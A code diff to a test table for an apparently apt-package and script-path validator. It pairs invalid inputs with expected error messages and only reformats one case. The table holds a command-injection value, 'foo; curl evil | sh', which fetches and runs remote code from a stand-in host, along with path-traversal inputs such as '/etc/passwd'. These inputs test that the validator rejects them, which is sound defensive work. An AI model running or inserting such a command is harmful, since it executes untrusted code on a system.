@@ -29,10 +29,7 @@ const wrong: Readonly<Record<string, readonly [text: string, said: string]>> = {
     "more than 100 aliases",
   ],
   deep: [`apt: ${"[".repeat(100_000)}`, ":1:1: lists or maps are nested more than 100 levels deep"],
-  shell: [
-    "apt_a:\n  - foo; curl evil | sh",
-    ':2:5: "foo; curl evil | sh" is not a valid apt package',
-  ],
+  shell: ["apt_a:\n  - foo; curl evil | sh", ':2:5: "foo; curl evil | sh" is not a valid apt package'],
   option: ["apt_a: [--reinstall]", '"--reinstall" is not a valid apt package'],
   absolute: ["script_a: [/etc/passwd]", 'script path "/etc/passwd" is outside this file\'s directory'],
   outside: ["script_a: [../x.sh]", 'script path "../x.sh" is outside this file\'s directory'],
